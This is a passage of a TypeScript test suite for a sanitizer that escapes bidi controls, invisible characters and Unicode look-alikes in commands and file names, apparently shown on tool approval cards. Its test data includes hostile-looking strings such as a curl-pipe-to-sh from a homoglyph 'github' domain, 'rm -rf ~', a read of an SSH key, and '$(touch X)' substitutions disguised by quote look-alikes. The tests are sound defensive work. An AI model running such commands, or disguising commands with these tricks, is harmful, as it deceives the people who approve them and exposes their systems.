import { fc, test as property } from '@fast-check/vitest';
import { describe, expect, it } from 'vitest';
import { escapeNotation, fromVisibleNotation, toVisibleProse, toVisibleText, visibleTextString, type VisibleSegment } from './visible-text';

const DANGEROUS = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{Co}\p{Cn}\p{Default_Ignorable_Code_Point}\p{Variation_Selector}\u2800]|[^\P{Zs} ]/u;

function isDangerous(char: string): boolean {
  return char !== '\n' && char !== '\t' && DANGEROUS.test(char);
}

/** Strings rich in the characters that matter here, mixed with plain ones and with backslashes and `u{`. */
const adversarialChar = fc.oneof(
  fc.constantFrom('a', ' ', '\n', '\t', '\r', '\\', 'u', '{', '}', '\\u{', '\\u{5C}', '202E}', 'FFFFFF}', '2', 'E', '\u202E', '\u2066', '\u2069', '\u200B', '\uFEFF', '\u2028', '\u00A0', '\u{E0041}', '\uFE0F', '\uD800', '\uDC00', '\x1B', '\x85', '\u00AD', 'é', '😀', 'а', 'ο', 'р', '.', '\u0261', '\u0131', '\uFF47', '\u{1D5C0}', '\u217C', '\uA4F2', '\u2C9F', '日'),
  fc.string({ unit: 'binary', maxLength: 1 }),
);
const adversarialString = fc.oneof(fc.string({ unit: adversarialChar, maxLength: 60 }), fc.string({ unit: 'binary' }), fc.string({ unit: 'grapheme' }));

/** The general rule, written apart from the code under test, plus the letters the outside probe found. */
function passesForAsciiOracle(char: string): boolean {
  const compatible = char.normalize('NFKC');
  return (char.codePointAt(0)! > 0x7f && /[\p{L}\p{N}]/u.test(char) && compatible !== char && /[A-Za-z0-9]/.test(compatible)) || /[\u0261\u0251\u0131\u1D00\uA4F2\u2C9F]/u.test(char);
}

function textOf(segments: VisibleSegment[]): string[] {
  return segments.flatMap((segment) => (segment.kind === 'text' ? [segment.text] : []));
}

describe('toVisibleText', () => {
  it('escapes the bidi controls that make a command read as commented out', () => {
    const visible = toVisibleText('echo "hello" \u2067; touch X #\u2069');
    expect(visibleTextString(visible)).toBe('echo "hello" \\u{2067}; touch X #\\u{2069}');
    expect(visible.hiddenCount).toBe(2);
    expect(visible.segments).toStrictEqual([
      { kind: 'text', text: 'echo "hello" ' },
      { kind: 'escape', text: '\\u{2067}', codePoint: 0x2067, class: 'bidi' },
      { kind: 'text', text: '; touch X #' },
      { kind: 'escape', text: '\\u{2069}', codePoint: 0x2069, class: 'bidi' },
    ]);
  });

  it('keeps newlines and tabs, and counts lines', () => {
    const visible = toVisibleText(`ls -la${'\n'.repeat(60)}curl x | sh\tend`);
    expect(visible.lineCount).toBe(61);
    expect(visible.hiddenCount).toBe(0);
    expect(visibleTextString(visible)).toBe(`ls -la${'\n'.repeat(60)}curl x | sh\tend`);
    expect(toVisibleText('').lineCount).toBe(1);
    expect(toVisibleText('').segments).toStrictEqual([]);
  });

  it.each([
    ['\r', 'control', '\\u{D}'],
    ['\x1B', 'control', '\\u{1B}'],
    ['\x7F', 'control', '\\u{7F}'],
    ['\x85', 'control', '\\u{85}'],
    ['\u202E', 'bidi', '\\u{202E}'],
    ['\u200E', 'bidi', '\\u{200E}'],
    ['\u061C', 'bidi', '\\u{61C}'],
    ['\u200B', 'invisible', '\\u{200B}'],
    ['\u200D', 'invisible', '\\u{200D}'],
    ['\u2060', 'invisible', '\\u{2060}'],
    ['\uFEFF', 'invisible', '\\u{FEFF}'],
    ['\u00AD', 'invisible', '\\u{AD}'],
    ['\u3164', 'invisible', '\\u{3164}'],
    ['\u2800', 'invisible', '\\u{2800}'],
    ['\u2028', 'line-separator', '\\u{2028}'],
    ['\u2029', 'line-separator', '\\u{2029}'],
    ['\uFE0F', 'variation-selector', '\\u{FE0F}'],
    ['\u{E0100}', 'variation-selector', '\\u{E0100}'],
    ['\u{E0041}', 'tag', '\\u{E0041}'],
    ['\u00A0', 'unusual-space', '\\u{A0}'],
    ['\u3000', 'unusual-space', '\\u{3000}'],
    ['\uD800', 'lone-surrogate', '\\u{D800}'],
    ['\uE000', 'private-use', '\\u{E000}'],
    ['\u{10FFFF}', 'unassigned', '\\u{10FFFF}'],
  ])('escapes %j as %s', (char, escapeClass, shown) => {
    const visible = toVisibleText(`a${char}b`);
    expect(visible.segments).toStrictEqual([
      { kind: 'text', text: 'a' },
      { kind: 'escape', text: shown, codePoint: char.codePointAt(0), class: escapeClass },
      { kind: 'text', text: 'b' },
    ]);
    expect(visible.hiddenCount).toBe(1);
  });

  it('leaves letters, emoji and a plain backslash alone', () => {
    for (const text of ['héllo wörld', 'שלום', 'C:\\Users\\x', 'grep "\\.ts$"', '😀', '👍🏽', '\\u1234', 'u{']) {
      expect(toVisibleText(text).segments).toStrictEqual([{ kind: 'text', text }]);
    }
  });

  it('escapes a look-alike letter in a word of Latin letters, and leaves words in one script alone', () => {
    // Cyrillic а and о, Greek ο, Armenian օ, Cherokee Ꭺ, each among Latin letters.
    expect(visibleTextString(toVisibleText('curl https://аpple.com/ && gοοgle'))).toBe('curl https://\\u{430}pple.com/ && g\\u{3BF}\\u{3BF}gle');
    expect(visibleTextString(toVisibleText('cat ~/.ssh/id_rsа'))).toBe('cat ~/.ssh/id_rs\\u{430}');
    expect(visibleTextString(toVisibleText('gօօgle ᎪWS'))).toBe('g\\u{585}\\u{585}gle \\u{13AA}WS');
    const visible = toVisibleText('pаypаl');
    expect(visible.hiddenCount).toBe(2);
    expect(visible.segments.filter((segment) => segment.kind === 'escape').map((segment) => segment.class)).toStrictEqual(['look-alike', 'look-alike']);
    // A digit of another script among Latin letters: Arabic-Indic one drawn like l, Devanagari zero like o.
    expect(visibleTextString(toVisibleText('evi\u0661.com ex\u0966mple.com'))).toBe('evi\\u{661}.com ex\\u{966}mple.com');
    // One script per word: Russian, Greek and a Latin word beside them read as they are.
    for (const text of ['echo привет world', 'αβγ.txt', 'отчёт.pdf', 'naïve café', 'x = λ', 'Tシャツ', '\u0641\u0635\u0644 \u0661\u0662 file']) expect(toVisibleText(text).hiddenCount).toBe(0);
  });

  // Each was drawn unmarked on a card (found by an outside probe): `https://ɡithub.com` with U+0261 resolves to xn--ithub-qmc.com.
  const PASSES_FOR_ASCII: [string, string][] = [
    ['\u0261', 'IPA Extensions: script g'],
    ['\u0251', 'IPA Extensions: alpha'],
    ['\u0131', 'Latin Extended-A: dotless i'],
    ['\u0237', 'Latin Extended-B: dotless j'],
    ['\u1D00', 'Phonetic Extensions: small capital A'],
    ['\u1D85', 'Phonetic Extensions Supplement: l with palatal hook'],
    ['\uA4F2', 'Lisu: I'],
    ['\uA4EE', 'Lisu: A'],
    ['\u2C9F', 'Coptic: o'],
    ['\u{1D5C0}', 'Mathematical Alphanumeric Symbols: sans-serif g'],
    ['\u{1D7CE}', 'Mathematical Alphanumeric Symbols: bold digit zero'],
    ['\uFF47', 'Halfwidth and Fullwidth Forms: g'],
    ['\uFF10', 'Halfwidth and Fullwidth Forms: digit zero'],
    ['\u217C', 'Number Forms: small roman numeral fifty'],
    ['\u210E', 'Letterlike Symbols: Planck constant h'],
    ['\u0185', 'Latin Extended-B: tone six, a b'],
    ['\u021D', 'Latin Extended-B: yogh, a 3'],
    ['\u2C65', 'Latin Extended-C: a with stroke'],
    ['\uA7AE', 'Latin Extended-D: small capital I'],
    ['\uAB64', 'Latin Extended-E: small capital alpha'],
    ['\u017F', 'long s (compatibility form s)'],
    ['\u00B2', 'superscript two (compatibility form 2)'],
    // Found in review: scripts of the past, each a block of letters drawn like Latin ones, passed unmarked.
    ['\u{10349}', 'Gothic: othal, an O'],
    ['\u{10309}', 'Old Italic: I, an l'],
    ['\u{10292}', 'Lycian: U, an O'],
    ['\u{102AB}', 'Carian: O'],
    ['\u{10404}', 'Deseret: capital long O'],
    ['\u{104C2}', 'Osage: capital O'],
    ['\u{10516}', 'Elbasan: O'],
    ['\u{118E0}', 'Warang Citi: digit zero, an O'],
    ['\u{16F28}', 'Miao: gha, an l'],
    ['\u{11706}', 'Ahom: pa, a v'],
    ['\u{1E8C7}', 'Mende Kikakui: digit one, an l'],
  ];

  it.each(PASSES_FOR_ASCII)('escapes %j (%s), a letter that passes for an ASCII one, in a command and in a URL', (char) => {
    const shown = `\\u{${char.codePointAt(0)!.toString(16).toUpperCase()}}`;
    const command = toVisibleText(`curl -s https://${char}ithub.com/install.sh | sh`, { code: true });
    expect(visibleTextString(command)).toBe(`curl -s https://${shown}ithub.com/install.sh | sh`);
    expect(command.hiddenCount).toBe(1);
    expect(command.segments.filter((segment) => segment.kind === 'escape').map((segment) => segment.class)).toStrictEqual(['look-alike']);
    const url = toVisibleText(`https://git${char}ub.com/x`);
    expect(visibleTextString(url)).toBe(`https://git${shown}ub.com/x`);
    expect(url.hiddenCount).toBe(1);
    // Wherever it stands: alone, or in a word with no ASCII letter.
    expect(toVisibleText(`cat ${char}${char}/x`, { code: true }).hiddenCount).toBe(2);
    expect(toVisibleText(`${char}.${char}`).hiddenCount).toBe(2);
  });

  it('escapes every letter of a word that passes for an ASCII one, and the look-alikes of other scripts beside them', () => {
    expect(visibleTextString(toVisibleText('curl -s https://\u0261ithub.com/install.sh | sh', { code: true }))).toBe('curl -s https://\\u{261}ithub.com/install.sh | sh');
    expect(visibleTextString(toVisibleText('https://\uFF47\uFF49\uFF54\uFF48\uFF55\uFF42.com'))).toBe('https://\\u{FF47}\\u{FF49}\\u{FF54}\\u{FF48}\\u{FF55}\\u{FF42}.com');
    // Cyrillic о and е in a word whose only Latin-looking letters are IPA ones.
    expect(visibleTextString(toVisibleText('\u0261\u043E\u043E\u0261\u0131\u0435'))).toBe('\\u{261}\\u{43E}\\u{43E}\\u{261}\\u{131}\\u{435}');
  });

  it('leaves accented letters, CJK text and fullwidth forms written among CJK letters alone', () => {
    for (const text of ['cat résumé.pdf', 'mv año.txt über.txt', 'ls Ångström/ șțară/ pīnyīn-ǎǐǒǔ/ Tiếng-Việt/ ağustos/ straße/ œuvre/ ŋ', 'cat 日本語.txt', 'open ２０２４年度.xlsx ＰＤＦファイル.pdf', '한국어', 'https://例え.jp/日本']) {
      expect(toVisibleText(text).segments).toStrictEqual([{ kind: 'text', text }]);
    }
  });

  // Found by an outside probe: each drew a command as quoted, escaped or redirected where it is not, and it ran.
  it.each([
    ['echo \u05D9$(touch X)\u05D9', 'Hebrew yod, drawn like a quote'],
    ['echo \u1420$(touch X) ; echo \u144A$(touch Y)\u144A ; echo a \u1433 b', 'Canadian syllabics drawn like a backquote, a quote and >'],
    ['echo \u4E36$(touch X) \u4E28 \u30CE', 'CJK letters drawn like a backslash, a bar and a slash'],
    ['echo \u030D$(touch X) \u030D', 'combining marks on a blank, drawn like quotes'],
    ["echo 'a \u05D9 x' ; rm -rf ~ ; echo 'y'", 'a look-alike quote inside real quotes, which shifts how a reader pairs them'],
    ['echo привет é 日本', 'plain letters of any script'],
  ])('in code, escapes every character outside ASCII as such, counted apart from hidden ones: %j (%s)', (command) => {
    const visible = toVisibleText(command, { code: true });
    const outside = [...command].filter((char) => char.codePointAt(0)! > 0x7e);
    expect(visible.segments.filter((segment) => segment.kind === 'escape').map((segment) => segment.class)).toStrictEqual(outside.map(() => 'non-ascii-in-code'));
    expect(textOf(visible.segments).join('')).toMatch(/^[\t\n\x20-\x7E]*$/);
    expect({ hidden: visible.hiddenCount, nonAscii: visible.nonAsciiCount }).toStrictEqual({ hidden: outside.length, nonAscii: outside.length });
    expect(fromVisibleNotation(visibleTextString(visible))).toBe(command);
  });

  it('in code, keeps the class of a hidden character or a look-alike, and counts only the others as outside ASCII', () => {
    const visible = toVisibleText('echo \u202Ex \u0261it \u05D9', { code: true });
    expect(visible.segments.filter((segment) => segment.kind === 'escape').map((segment) => segment.class)).toStrictEqual(['bidi', 'look-alike', 'non-ascii-in-code']);
    expect({ hidden: visible.hiddenCount, nonAscii: visible.nonAsciiCount }).toStrictEqual({ hidden: 3, nonAscii: 1 });
    expect(toVisibleText('echo \u05D9').nonAsciiCount).toBe(0);
  });

  property.prop([adversarialString], { numRuns: 1000 })('in code, no text segment holds anything but printable ASCII, a tab or a line break', (value) => {
    const visible = toVisibleText(value, { code: true });
    for (const text of textOf(visible.segments)) expect(text).toMatch(/^[\t\n\x20-\x7E]*$/);
    expect(fromVisibleNotation(visibleTextString(visible))).toBe(value);
  });

  property.prop([fc.string({ unit: fc.oneof(fc.constantFrom('\u05D9', '\u144A', '\u16CC', '\u0375', '\u00E9', '\u0153', '\u65E5', '\u30CE', '\uFF89', '\u0131', '\u3003', '\u0301', '$', '(', "'"), fc.string({ unit: 'grapheme', maxLength: 1 })), maxLength: 40 })], { numRuns: 1000 })(
    'in an argument that may run as code, no text segment holds a character outside ASCII but a Latin-1 or Latin Extended-A letter or a wide CJK one',
    (value) => {
      const visible = toVisibleText(value, { mayRun: true, syntax: true });
      for (const text of textOf(visible.segments)) {
        for (const char of text) if (char.codePointAt(0)! > 0x7f) expect(char).toMatch(/^(?:[\u00C0-\u017F]|[\p{scx=Han}\p{scx=Hiragana}\p{scx=Katakana}\p{scx=Hangul}\p{scx=Bopomofo}\uFF01-\uFF5E])$/u);
        expect(text).not.toMatch(/[\u1100-\u11FF\uA960-\uA97F\uD7B0-\uD7FF\uFF61-\uFFDC\u0131\u3003]/u);
      }
      expect(fromVisibleNotation(visibleTextString(visible))).toBe(value);
    },
  );

  // Found by an outside probe: U+030D on a blank drew like a quote, and 40 marks on one character drew over the lines above.
  it('in an argument that may run as code, escapes every character outside ASCII but accented Latin letters and CJK, whatever letter is drawn like a quote', () => {
    // Found from outside: each of these drew as a quote or a backquote around an MCP command's $(…), which ran.
    for (const char of ['\u05D9', '\u144A', '\u1420', '\u16CC', '\u0375', '\u0627', '\u16E7']) {
      const shown = toVisibleText(`echo ${char}$(touch X)${char}`, { mayRun: true, syntax: true });
      expect({ char, flat: visibleTextString(shown), hidden: shown.hiddenCount, nonAscii: shown.nonAsciiCount }).toStrictEqual({
        char,
        flat: `echo \\u{${char.codePointAt(0)!.toString(16).toUpperCase()}}$(touch X)\\u{${char.codePointAt(0)!.toString(16).toUpperCase()}}`,
        hidden: 2,
        // A word of an Arabic alef alone is drawn like l: a look-alike (see "escapes every letter and digit of a word…").
        nonAscii: char === '\u0627' ? 0 : 2,
      });
    }
    const message = "git commit -m \"Corrige l'accès à la base, Straße, cœur; 修正：テストを追加。한국어\" && echo привет";
    const shown = toVisibleText(message, { mayRun: true, syntax: true });
    expect(visibleTextString(shown)).toBe(
      "git commit -m \"Corrige l'accès à la base, Straße, cœur; 修正：テストを追加。한국어\" && echo \\u{43F}\\u{440}\\u{438}\\u{432}\\u{435}\\u{442}",
    );
    expect(fromVisibleNotation(visibleTextString(shown))).toBe(message);
    // Narrow forms of CJK and look-alikes among readable letters are still escaped.
    expect(visibleTextString(toVisibleText('echo \uFF89 \u3003x\u3003 \u0131d', { mayRun: true, syntax: true }))).toBe('echo \\u{FF89} \\u{3003}x\\u{3003} \\u{131}d');
    // Not asked: left as it was.
    expect(toVisibleText('echo \u05D9$(touch X)\u05D9').hiddenCount).toBe(0);
  });

  it('escapes every character outside ASCII of a one-line value not in NFC, and leaves composed ones alone', () => {
    // Found from outside: write_file to `cafe\u0301.txt` was drawn as the existing `café.txt` and wrote a twin.
    const decomposed = toVisibleText('docs/cafe\u0301 \u65E5.txt', { nfc: true });
    expect(visibleTextString(decomposed)).toBe('docs/cafe\\u{301} \\u{65E5}.txt');
    expect(decomposed.segments.filter((segment) => segment.kind === 'escape').map((segment) => segment.kind === 'escape' && segment.class)).toStrictEqual(['not-nfc', 'not-nfc']);
    expect({ hidden: decomposed.hiddenCount, nonAscii: decomposed.nonAsciiCount }).toStrictEqual({ hidden: 2, nonAscii: 0 });
    // Hangul in conjoining jamo, and a singleton NFC replaces (U+212B ANGSTROM SIGN is a look-alike anyway).
    expect(toVisibleText('\u1112\u1161\u11AB.txt', { nfc: true }).hiddenCount).toBe(3);
    expect(toVisibleText('caf\u00E9 \u65E5.txt', { nfc: true }).hiddenCount).toBe(0);
    // Text of several lines (a file's content) is not a name: left to the other rules.
    expect(toVisibleText('cafe\u0301\nx', { nfc: true }).hiddenCount).toBe(0);
  });

  // Found from outside: write_file to `ran\u2024log` was drawn as `ran.log`, with no warning, and wrote another file.
  it.each([
    ['ran\u2024log', 'one dot leader'],
    ['notes\u2215x', 'division slash'],
    ['notes\u2044x', 'fraction slash'],
    ['a\uFF0Eb', 'fullwidth full stop'],
    ['notes\uFF0Fx', 'fullwidth solidus'],
    ['README\u0589md', 'Armenian full stop, drawn like a colon'],
    ['C\u2236/x', 'ratio'],
    ['a\uFF1Ab', 'fullwidth colon'],
    ['-\u2010force', 'a hyphen'],
    ['\u2212rf', 'minus sign'],
    ['my\uFF0Dfile', 'fullwidth hyphen-minus'],
    ['report\u20132024.pdf', 'an en dash in a name with no blank'],
    // Found in review, outside the set as it was written: drawn plainly in paths and names.
    ['C\uA789/x', 'modifier letter colon'],
    ['evil\u0660com', 'Arabic-Indic digit zero after a Latin letter'],
    ['ran\u00B7log', 'middle dot'],
    ['ran\u2027log', 'hyphenation point'],
    ['ran\u22C5log', 'dot operator'],
    ['ran\u2E31log', 'word separator middle dot'],
    ['C\u02D0/x', 'modifier letter triangular colon'],
    ['notes\u2041x', 'caret insertion point'],
    ['notes\u2AFDx', 'double solidus operator'],
    ['a\u244Ab', 'OCR double backslash'],
    ['a\uFE30b', 'vertical two dot leader'],
    ['a\u0903b', 'Devanagari visarga after a Latin letter'],
    ['evil\u30CEcom', 'katakana no between Latin letters'],
    ['evil\u4E3Fcom', 'a Han stroke between Latin letters'],
    ['a\u{1D23A}b', 'Greek instrumental notation symbol drawn like a solidus'],
  ])('in a one-line value that names something, escapes a character drawn like . / \\ : or -: %j (%s)', (value) => {
    const visible = toVisibleText(value, { nfc: true, syntax: true });
    const escapes = visible.segments.filter((segment) => segment.kind === 'escape');
    expect(escapes.map((segment) => segment.kind === 'escape' && segment.class)).toStrictEqual(['look-alike-punctuation']);
    expect({ hidden: visible.hiddenCount, nonAscii: visible.nonAsciiCount }).toStrictEqual({ hidden: 1, nonAscii: 0 });
    expect(textOf(visible.segments).join('')).toMatch(/^[\x20-\x7E]*$/);
    expect(fromVisibleNotation(visibleTextString(visible))).toBe(value);
    // In an argument that may run as code, whatever its lines.
    expect(toVisibleText(`${value}\nx`, { mayRun: true }).hiddenCount).toBe(1);
  });

  // Found in review: a line end other than a line feed (escaped, but white space) counted as the blank of a sentence,
  // so the en dash after it was left as prose punctuation; and a value of several lines was not read as names at all.
  it('reads each line of a value that names something on every line as a one-line value, and a line end as no blank', () => {
    for (const end of ['\r', '\u2028', '\u2029', '\v', '\f', '\x85']) {
      const visible = toVisibleText(`notes${end}report\u20132024.pdf`, { nfc: true });
      expect({ end, escaped: visible.segments.flatMap((segment) => (segment.kind === 'escape' ? [segment.codePoint] : [])) }).toStrictEqual({ end, escaped: [end.codePointAt(0), 0x2013] });
    }
    const lines = ['notes.txt', 'report\u20132024.pdf', '\u03A4\u039F\u039A\u0395\u039D.\u03A4\u03A7\u03A4', 'ran\u2024log', 'cafe\u0301 \u65E5.txt', 'a \u2013 b'];
    const alone = lines.map((line) => visibleTextString(toVisibleText(line, { nfc: true, syntax: true })));
    expect(alone.filter((line, at) => line !== lines[at])).toHaveLength(4);
    expect(visibleTextString(toVisibleText(lines.join('\n'), { nfc: true, syntax: true, everyLine: true }))).toBe(alone.join('\n'));
    expect(visibleTextString(toVisibleText(lines.join('\r\n'), { nfc: true, syntax: true, everyLine: true }))).toBe(alone.join('\\u{D}\n'));
    // In an argument that may run as code, too: a line of its own is no blank for the en dash of the next.
    expect(toVisibleText('x\nreport\u20132024.pdf', { mayRun: true }).segments.filter((segment) => segment.kind === 'escape').map((segment) => segment.kind === 'escape' && segment.class)).toStrictEqual(['look-alike-punctuation']);
    // Without `everyLine`, text of several lines stays text.
    expect(toVisibleText(lines.slice(2, 4).join('\n'), { nfc: true, syntax: true }).hiddenCount).toBe(0);
  });

  // Found in review: a letter, mark or digit of another script before a script's own stop let it pass as the writer's
  // own beside Latin letters; CJK strokes drawn level and the prolonged sound mark passed for a dash, and counted as
  // the CJK text that let a fullwidth solidus stand.
  it.each([
    ['evi\u0661\u0660com', 'an Arabic-Indic one (drawn like l), then the zero'],
    ['evil\u05BC\u0660com', 'a Hebrew mark on a Latin letter, then the zero'],
    ['evil\u0E31\u0660com', 'a Thai mark on a Latin letter, then the zero'],
    ['ran\u0967\u00B7log', 'a Devanagari digit, then the middle dot'],
    ['v\u0661\u0660\u0662', 'v1.2 in Arabic-Indic digits after a Latin letter'],
    ['README\u0661\u06F0md', 'an Arabic-Indic digit, then the extended zero'],
    ['x\u0967\u0903y', 'a Devanagari digit, then the visarga'],
    ['notes/\u0660\u0660/x', 'zeros alone, drawn like ..'],
    ['\u054D\u0589\\x', 'an Armenian letter drawn like S, its full stop drawn like a colon, then a backslash'],
    ['my\u4E00file', 'the Han one'],
    ['my\u30FCfile', 'the katakana prolonged sound mark'],
    ['my\u2F00file', 'the Kangxi radical one'],
    ['my\u3161file', 'the Hangul letter eu'],
    ['my\u1173file', 'the Hangul vowel eu'],
    ['my\uFF70file', 'the halfwidth prolonged sound mark'],
    ['\u7B2C\u4E00file', 'the Han one after a Han letter, before a Latin one'],
  ])('escapes a character drawn like . / \\ : or - whose own script is not the whole word around it: %j (%s)', (value) => {
    const visible = toVisibleText(value, { nfc: true, syntax: true });
    const escapes = visible.segments.filter((segment) => segment.kind === 'escape');
    expect(escapes.length).toBeGreaterThan(0);
    // The digits of another script beside Latin letters (`evi١٠com`) are look-alikes of ASCII ones.
    expect(escapes.map((segment) => segment.kind === 'escape' && segment.class)).toContain('look-alike-punctuation');
    for (const segment of escapes) expect(segment.kind === 'escape' && ['look-alike', 'look-alike-punctuation'].includes(segment.class)).toBe(true);
    const shown = textOf(visible.segments).join('');
    for (const char of ['\u00B7', '\u0589', '\u0660', '\u0661', '\u06F0', '\u0903', '\u0967', '\u1173', '\u2F00', '\u30FC', '\u3161', '\u4E00', '\uFF70']) expect(shown).not.toContain(char);
    expect(fromVisibleNotation(visibleTextString(visible))).toBe(value);
  });

  // Found in review: a word all in one script whose every letter looks Latin (UTS #39's whole-script confusable) kept
  // its stop, drawn like path syntax: `ΤΟΚΕΝ·ΤΧΤ` read as TOKEN.TXT, `ا١٠١` as l1.1.
  it.each([
    ['\u03A4\u039F\u039A\u0395\u039D\u00B7\u03A4\u03A7\u03A4', '\u00B7', 'Greek capitals drawn like TOKEN, the ano teleia (NFC: the middle dot), TXT'],
    ['\u03BA\u03BF\u03C1\u03BF\u00B7\u03C4\u03BF', '\u00B7', 'Greek small letters drawn like kopo, the ano teleia, to'],
    ['\u0627\u0661\u0660\u0661', '\u0660', 'an Arabic alef and Arabic-Indic digits drawn like l1.1'],
    ['\u0647\u0660\u0647', '\u0660', 'Arabic heh drawn like o, the zero, heh'],
    ['\u0585\u057D\u0589\u0585', '\u0589', 'Armenian letters drawn like ou, the full stop drawn like a colon, o'],
    ['\u05D5\u05E1\u05C3\u05D5', '\u05C3', 'Hebrew letters drawn like lo, the sof pasuq drawn like a colon, l'],
  ])('escapes the stop of a word whose every letter is drawn like a Latin one: %j (%s)', (value, stop) => {
    for (const options of [{ nfc: true, syntax: true }, { mayRun: true }]) {
      const visible = toVisibleText(value, options);
      const escapes = visible.segments.filter((segment) => segment.kind === 'escape');
      expect(escapes).toContainEqual(expect.objectContaining({ codePoint: stop.codePointAt(0), class: 'look-alike-punctuation' }));
      expect(fromVisibleNotation(visibleTextString(visible))).toBe(value);
    }
    // The letters and digits too: the word reads as a Latin one (see "escapes every letter and digit of a word…").
    expect(visibleTextString(toVisibleText(value, { nfc: true }))).toBe([...value].map((char) => escapeNotation(char.codePointAt(0)!)).join(''));
  });

  it('keeps the stop of a word with a letter drawn like no Latin one, and of a number in Arabic digits', () => {
    // Greek with its ano teleia; Arabic numbers in Arabic text, alone or after a word; Armenian. The Arabic-Indic 105
    // alone reads as l.o: see "escapes every letter and digit of a word…".
    const own = [
      '\u039A\u03B1\u03BB\u03B7\u03BC\u03AD\u03C1\u03B1\u00B7 \u03C0\u03CE\u03C2 \u03C6\u03AF\u03BB\u03B5',
      '\u03BB\u03CC\u03B3\u03BF\u03C2\u00B7\u03BB\u03AD\u03BE\u03B7',
      '\u0627\u0644\u0635\u0641\u062D\u0629 \u0661\u0660\u0661',
      '\u0645\u0644\u0641\u0661\u0660\u0661',
      '\u0628\u0627\u0628\u0661\u0660',
      '\u0532\u0561\u0580\u0565\u0582\u0589',
    ];
    for (const text of own) expect(toVisibleText(text, { nfc: true, syntax: true }).segments).toStrictEqual([{ kind: 'text', text }]);
  });

  // Found in review: with an ASCII dot, a word all in Greek capitals drawn like Latin ones had nothing to escape, so a
  // file tool's card read `ΤΟΚΕΝ.ΤΧΤ` as TOKEN.TXT with no mark at all; so did a Cyrillic `аррӏе` and a word mixing
  // Greek and Cyrillic look-alikes.
  it.each([
    ['\u03A4\u039F\u039A\u0395\u039D.\u03A4\u03A7\u03A4', 'Greek capitals drawn like TOKEN.TXT, with an ASCII dot'],
    ['\u0430\u0440\u0440\u04CF\u0435.com', 'Cyrillic letters drawn like apple, before a Latin word'],
    ['\u03B7\u03B5\u03C7\u03C4', 'Greek small letters drawn like next: eta, epsilon, chi, tau'],
    ['\u03C9\u03B9\u03BD.exe', 'Greek small letters drawn like win: omega, iota, nu'],
    ['\u041D\u0415\u0425', 'Cyrillic capitals drawn like HEX'],
    ['\u03A4\u041E\u039A\u0415\u039D', 'Greek and Cyrillic capitals mixed, drawn like TOKEN'],
    ['\u0661\u0660\u0661', 'Arabic-Indic digits drawn like 1.1, alone'],
    ['\u0661\u0660\u0660', 'Arabic-Indic digits drawn like 1.., alone'],
    ['\u0627 \u0647', 'an Arabic alef and heh, each a word alone, drawn like l and o'],
  ])('escapes every letter and digit of a word drawn all like Latin ones, in a name, a command and a value that may run: %j (%s)', (value) => {
    // The Arabic-Indic zero is escaped as what it is drawn like, a dot (`look-alike-punctuation`, in code as code).
    const lookAlikes = [...value].filter((char) => /[\p{L}\p{N}]/u.test(char) && !/[a-z]/.test(char) && char !== '\u0660');
    for (const options of [{ nfc: true, syntax: true }, { code: true }, { mayRun: true }]) {
      const visible = toVisibleText(value, options);
      const escaped = visible.segments.filter((segment) => segment.kind === 'escape');
      expect(escaped.filter((segment) => segment.class === 'look-alike').map((segment) => String.fromCodePoint(segment.codePoint))).toStrictEqual(lookAlikes);
      expect(fromVisibleNotation(visibleTextString(visible))).toBe(value);
    }
  });

  it('escapes the look-alike letters of a word mixing two scripts, and leaves the others', () => {
    // Greek Τ Κ Ν, Cyrillic О Е, and a Greek lambda drawn like no Latin letter.
    const visible = toVisibleText('\u03A4\u041E\u039A\u0415\u039D\u03BB.txt', { nfc: true, syntax: true });
    expect(visibleTextString(visible)).toBe('\\u{3A4}\\u{41E}\\u{39A}\\u{415}\\u{39D}\u03BB.txt');
    // A Hebrew final nun drawn like l among Latin letters, wherever it stands: `login`.
    expect(toVisibleText('\u05DFogin').segments).toStrictEqual([{ kind: 'escape', text: '\\u{5DF}', codePoint: 0x5df, class: 'look-alike' }, { kind: 'text', text: 'ogin' }]);
    // A Greek word drawn like tokev before the ano teleia, then one that is not: the stop is Greek's own, the first word is not.
    expect(visibleTextString(toVisibleText('\u03C4\u03BF\u03BA\u03B5\u03BD\u00B7\u03BB\u03AD\u03BE\u03B7', { nfc: true }))).toBe('\\u{3C4}\\u{3BF}\\u{3BA}\\u{3B5}\\u{3BD}\u00B7\u03BB\u03AD\u03BE\u03B7');
  });

  it('leaves words of Greek, Russian and Arabic as written where one letter or digit is drawn like no Latin one, and text that names nothing', () => {
    const own = [
      '\u03BB\u03AD\u03BE\u03B7.txt',
      '\u043F\u0440\u0438\u0432\u0435\u0442.txt',
      '\u041E\u0442\u0447\u0451\u0442 2024.pdf',
      '\u0627\u0644\u0635\u0641\u062D\u0629 \u0661\u0660\u0661',
      '\u0662\u0660\u0662\u0664',
    ];
    for (const text of own) expect(toVisibleText(text, { nfc: true, syntax: true }).segments).toStrictEqual([{ kind: 'text', text }]);
    // A tool's result and a file's lines are read, not named: a Greek sentence there stays as written.
    const sentence = '\u03A4\u039F \u039A\u0395\u039D\u039F.\n\u03BA\u03B1\u03B9 \u03C4\u03BF';
    expect(toVisibleText(sentence).segments).toStrictEqual([{ kind: 'text', text: sentence }]);
    expect(toVisibleText(sentence, { nfc: true, syntax: true }).segments).toStrictEqual([{ kind: 'text', text: sentence }]);
  });

  // Found in review: letters and digits of scripts the table did not hold are drawn like ASCII ones and passed
  // unmarked in a path: Malayalam `ഠഠ` read as oo, Georgian `ყ` as y, `gဝဝgle` with Myanmar `ဝ`s as google.
  it.each([
    ['\u0D20\u0D20', 'Malayalam ttha twice, drawn like oo'],
    ['\u10E7', 'Georgian qar alone, drawn like y'],
    ['g\u101D\u101Dgle.com', 'Myanmar wa twice among ASCII letters, drawn like google.com'],
    ['notes/\u0D20\u0D02.txt', 'Malayalam ttha and anusvara, a spacing mark drawn like o, in a path: oo'],
    ['\u0E50\u0ED0\u1040', 'Thai, Lao and Myanmar zeros, drawn like ooo'],
    ['\u09EA\u0A66 \u0B68\u0D6D', 'Bengali four and Gurmukhi zero, Oriya two and Malayalam seven, drawn like 8o and 99'],
    ['\u2D54\u2D4F\u2D39', 'Tifinagh yar, yan and yadd, drawn like OlE'],
    ['\u10FF\u10E7 c\u2D54py', 'a Georgian word drawn like oy, a Tifinagh yar among ASCII letters'],
    ['\u16D2\u16C1\u16B7', 'Runic berkanan, isaz and gebo, drawn like BlX'],
    // Found in review: confusables maps the ideographic number zero to O, the Khmer zero (since Unicode 17) to o.
    ['g\u3007\u3007gle.com', 'ideographic number zero twice among ASCII letters, drawn like gOOgle.com'],
